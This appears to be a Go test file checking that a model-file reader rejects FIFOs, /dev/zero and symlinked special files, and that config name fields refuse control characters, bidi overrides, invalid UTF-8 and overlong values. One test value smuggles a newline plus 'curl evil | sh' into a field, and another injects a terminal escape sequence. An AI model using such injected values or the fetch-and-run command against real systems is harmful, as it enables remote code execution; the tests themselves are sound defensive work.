//go:build unix

package hf

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/gpuplan/gpuplan/data/safeio"
)

// TestReadersRefuseSpecialFiles: every file data/hf opens goes through
// safeio, so a FIFO (which would block open(2) forever), a device such as
// /dev/zero (which never ends) or a directory gives an error at once.
func TestReadersRefuseSpecialFiles(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Skip("mkfifo:", err)
	}
	link := func(name, target string) string {
		p := filepath.Join(dir, name)
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
		return p
	}
	// A sharded checkpoint whose index names a FIFO as a shard.
	sharded := filepath.Join(dir, "sharded")
	if err := os.Mkdir(sharded, 0o755); err != nil {
		t.Fatal(err)
	}
	writeST(t, filepath.Join(sharded, "a.safetensors"), gpt2Block[:1])
	if err := syscall.Mkfifo(filepath.Join(sharded, "b.safetensors"), 0o644); err != nil {
		t.Fatal(err)
	}
	index := `{"weight_map": {"h.0.attn.c_attn.weight": "a.safetensors", "x": "b.safetensors"}}`
	if err := os.WriteFile(filepath.Join(sharded, IndexFile), []byte(index), 0o644); err != nil {
		t.Fatal(err)
	}
	// A model directory whose config.json is a symlink to /dev/zero.
	zeroDir := filepath.Join(dir, "zero-model")
	if err := os.Mkdir(zeroDir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/dev/zero", filepath.Join(zeroDir, "config.json")); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		read func() error
		want string
	}{
		{"config.json is a FIFO", func() error { _, err := ReadConfig(fifo); return err }, "fifo: not a regular file: is a FIFO"},
		{"config.json is /dev/zero", func() error { _, err := ReadConfig("/dev/zero"); return err }, "is a character device"},
		{"config.json in a directory is a symlink to /dev/zero", func() error { _, err := ReadConfig(zeroDir); return err }, "config.json: not a regular file: is a character device"},
		{"config.json is a symlink to a FIFO", func() error { _, err := ReadConfig(link("cfg-link", fifo)); return err }, "is a FIFO"},
		{"safetensors file is a FIFO", func() error { _, err := ReadSafetensors(link("m.safetensors", fifo)); return err }, "is a FIFO (named pipe); want a .safetensors file"},
		{"safetensors file is /dev/zero", func() error { _, err := ReadSafetensors("/dev/zero"); return err }, "is a character device"},
		{"index is a FIFO", func() error { _, err := ReadSafetensors(link("x.safetensors.index.json", fifo)); return err }, "is a FIFO"},
		{"a shard named in the index is a FIFO", func() error { _, err := ReadSafetensors(sharded); return err }, "b.safetensors: not a regular file: is a FIFO"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.read()
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("error = %v, want %q", err, tt.want)
			}
			if strings.Contains(tt.name, "FIFO") && !errors.Is(err, safeio.ErrNotRegular) {
				t.Errorf("error %v does not wrap safeio.ErrNotRegular", err)
			}
		})
	}
}

// TestConfigNamesAreData: the name-like keys of a config.json reach tables,
// scripts and YAML, so control characters and absurd lengths are errors
// naming the key.
func TestConfigNamesAreData(t *testing.T) {
	base := `"model_type": "llama", "hidden_size": 4096, "num_hidden_layers": 32, "num_attention_heads": 32,
		"intermediate_size": 11008, "vocab_size": 32000`
	tests := []struct {
		name, extra, want string
	}{
		{"newline in _name_or_path", `"_name_or_path": "x\ncurl evil | sh"`, `_name_or_path: control character \n (newline) at byte 1`},
		{"ESC in _name_or_path", `"_name_or_path": "\u001b]0;pwned\u0007"`, `_name_or_path: control character \x1b (ESC) at byte 0`},
		{"NUL in _name_or_path", `"_name_or_path": "a\u0000"`, `_name_or_path: control character \x00 (NUL)`},
		{"a 300-byte _name_or_path", `"_name_or_path": "` + strings.Repeat("n", 300) + `"`, "_name_or_path: 300 bytes long, the limit is 256"},
		{"a clean Hub id is read", `"_name_or_path": "meta-llama/Llama-2-7b-hf"`, ""},
		// Attack r29: invalid UTF-8 was decoded to U+FFFD and shown as
		// "\uFFFD\uFFFD" while U+2028 was refused; a lone surrogate escape too.
		{"invalid UTF-8 in _name_or_path", "\"_name_or_path\": \"ab\xff\xfe\"", "_name_or_path: invalid UTF-8 at byte 2; save the file as UTF-8"},
		{"lone surrogate in _name_or_path", `"_name_or_path": "ab\udc80"`, `_name_or_path: a \u escape that is no character (a lone surrogate) at byte 2`},
		{"U+2028 in _name_or_path", `"_name_or_path": "a\u2028b"`, "_name_or_path: "},
		{"a written U+FFFD is the file's own", `"_name_or_path": "a\ufffdb"`, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ParseConfig([]byte("{" + base + ", " + tt.extra + "}"))
			switch {
			case tt.want == "" && err != nil:
				t.Fatalf("ParseConfig: %v", err)
			case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
				t.Fatalf("ParseConfig error = %v, want %q", err, tt.want)
			}
		})
	}
	_, err := ParseConfig([]byte(`{"model_type": "llama\u202e", "text_config": {}}`))
	if err == nil || !strings.Contains(err.Error(), "model_type: control character U+202E") {
		t.Errorf("bidi override in model_type: error = %v", err)
	}
	if safeio.HFConfig.MaxBytes != MaxConfigBytes {
		t.Errorf("safeio.HFConfig caps %d bytes, MaxConfigBytes is %d", safeio.HFConfig.MaxBytes, MaxConfigBytes)
	}
	if safeio.SafetensorsIndex.MaxBytes != maxIndexBytes {
		t.Errorf("safeio.SafetensorsIndex caps %d bytes, maxIndexBytes is %d", safeio.SafetensorsIndex.MaxBytes, maxIndexBytes)
	}
}
